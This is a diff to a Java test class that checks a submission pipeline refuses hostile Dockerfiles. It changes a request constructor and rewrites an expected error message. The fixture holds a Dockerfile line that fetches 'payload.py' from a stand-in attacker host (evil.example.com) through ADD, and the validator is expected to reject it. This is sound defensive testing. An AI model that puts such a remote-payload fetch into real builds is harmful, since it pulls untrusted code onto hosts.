@@ -59,7 +59,7 @@ class SubmissionPipelineHostileTest {
     }
 
     static SubmissionOutcome submit(SubmissionPipeline p, String url, String commit) {
-        return p.process(new SubmissionRequest(UUID.randomUUID(), TOURNAMENT, "5Hotkey", 7, url, commit));
+        return p.process(new SubmissionRequest(UUID.randomUUID(), TOURNAMENT, 2, "5Hotkey", 7, url, commit));
     }
 
     /** Asserts the outcome, that no image was built and that no working folder is left. */
@@ -254,7 +254,8 @@ class SubmissionPipelineHostileTest {
         String sha = dockerfileRepo("miner/addurl.git",
                 "FROM subnet2-base/python:3\nADD http://evil.example.com/payload.py /app/\nUSER 65534\n");
         assertRefused(submit(pipeline, server.url("miner/addurl.git"), sha), Status.DISQUALIFIED,
-                "[dockerfile.add-url] ADD from a URL is not allowed: line 2: http://evil.example.com/payload.py");
+                "[dockerfile.add] ADD is not allowed (the engine fetches ADD URLs on the host's network); use COPY: line 2: "
+                        + "http://evil.example.com/payload.py /app/");
     }
 
     @Test
